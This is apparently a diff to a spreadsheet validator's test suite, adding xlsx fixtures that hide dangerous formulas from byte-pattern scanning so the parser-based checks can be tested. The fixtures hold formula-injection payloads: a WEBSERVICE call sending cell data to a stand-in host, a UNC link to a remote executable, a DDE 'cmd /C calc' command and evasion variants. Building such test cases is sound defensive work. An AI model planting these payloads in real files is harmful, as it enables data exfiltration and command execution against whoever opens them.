@@ -707,6 +707,69 @@ def hyperlink_formula_with_result() -> bytes:
         "K3", '<c r="K3" t="str"><f>HYPERLINK("\\\\host\\share\\a.exe","打开")</f><v>打开</v></c>'))
 
 
+# issue 27: the same formulas written so that a byte pattern misses them (the reader parses the XML)
+_WEB = 'WEBSERVICE("http://x.invalid/?"&amp;A2)'
+_UNC = 'HYPERLINK("file://\\\\host\\share\\a.exe","打开")'
+_DDE = "cmd|' /C calc'!A0"
+_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+
+
+def formula_attribute_order() -> bytes:  # s before r
+    return edit_sheet(B, put_cell("J2", f'<c s="0" r="J2"><f>{_WEB}</f></c>'))
+
+
+def formula_single_quotes() -> bytes:
+    return edit_sheet(B, put_cell("J2", f"<c r='J2' t='str'><f>{_UNC}</f><v>打开</v></c>"))
+
+
+def formula_after_comment() -> bytes:
+    return edit_sheet(B, put_cell("J2", f'<c r="J2"><!-- a note --><f>{_DDE}</f><v>0</v></c>'))
+
+
+def formula_namespace_prefix() -> bytes:
+    return edit_sheet(B, put_cell("J2", f'<x:c xmlns:x="{_NS}" r="J2"><x:f>{_DDE}</x:f><x:v>0</x:v></x:c>'))
+
+
+def formula_tab() -> bytes:
+    return edit_sheet(B, put_cell("J2", f'<c\tr="J2"\tt="str"><f>{_UNC}</f><v>打开</v></c>'))
+
+
+def _before_validations(xml_part: str) -> Edit:
+    return lambda xml: xml.replace(b"<dataValidations", xml_part.encode() + b"<dataValidations", 1)
+
+
+def conditional_format_formula() -> bytes:
+    return edit_sheet(B, _before_validations(
+        f'<conditionalFormatting sqref="B2:B3"><cfRule type="expression" priority="1" dxfId="0">'
+        f'<formula>{_WEB}</formula></cfRule></conditionalFormatting>'))
+
+
+def conditional_format_harmless() -> bytes:  # a plain comparison: kept
+    return edit_sheet(B, _before_validations(
+        '<conditionalFormatting sqref="C2:C3"><cfRule type="expression" priority="1" dxfId="0">'
+        "<formula>AND(ISNUMBER(C2),C2&gt;B2)</formula></cfRule></conditionalFormatting>"))
+
+
+def data_validation_formula() -> bytes:
+    return edit_sheet(B, lambda xml: xml.replace(b"</dataValidations>", (
+        f'<dataValidation type="list" sqref="Z2"><formula1>{_DDE}</formula1></dataValidation>'
+        "</dataValidations>").encode(), 1))
+
+
+def data_validation_x14_formula() -> bytes:  # the x14 extension: the formula in an <xm:f>
+    ext = ('<extLst><ext uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}" '
+           'xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main">'
+           '<x14:dataValidations xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" count="1">'
+           '<x14:dataValidation type="list"><x14:formula1><xm:f>INDIRECT("[other.xlsx]Sheet1!A1")</xm:f>'
+           "</x14:formula1><xm:sqref>Z3</xm:sqref></x14:dataValidation></x14:dataValidations></ext></extLst>")
+    return edit_sheet(B, lambda xml: xml.replace(b"</worksheet>", ext.encode() + b"</worksheet>", 1))
+
+
+def far_cell_attribute_order() -> bytes:  # the extent found by parsing, whatever the attribute order
+    return edit_sheet("单位", before_sheet_data_end(b'<row spans="1:1" r="1048576"><c s="0" r="XFD1048576" t="n">'
+                                                     b"<v>1</v></c></row>"))
+
+
 def _rel(rid: str, rtype: str, target: str, external: bool = True) -> bytes:
     mode = ' TargetMode="External"' if external else ""
     return (f'<Relationship Id="{rid}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
@@ -914,6 +977,17 @@ CASES: tuple[Case, ...] = (
     _c(unc_hyperlink, "error", FILE, None, "", "外部链接", "share"),
     _c(web_hyperlink, "ok", FILE, None, ""),
     _c(dde_defined_name, "error", FILE, None, "", "名称", "cmd|"),
+    # issue 27: formulas hidden from a byte pattern; formulas of conditional formats and data validations
+    _c(formula_attribute_order, "error", B, 2, "", "J2 是公式"),
+    _c(formula_single_quotes, "error", B, 2, "", "J2 是公式"),
+    _c(formula_after_comment, "error", B, 2, "", "J2 是公式"),
+    _c(formula_namespace_prefix, "error", B, 2, "", "J2 是公式", cli=True),
+    _c(formula_tab, "error", B, 2, "", "J2 是公式"),
+    _c(conditional_format_formula, "error", B, None, "", "条件格式", "WEBSERVICE", cli=True),
+    _c(conditional_format_harmless, "ok", B, None, ""),
+    _c(data_validation_formula, "error", B, None, "", "数据验证", "DDE"),
+    _c(data_validation_x14_formula, "error", B, None, "", "数据验证", "INDIRECT"),
+    _c(far_cell_attribute_order, "error", "单位", None, "", "使用区域过大", "1,048,576", hostile=True),
 )
 
 BY_NAME = {c.name: c for c in CASES}
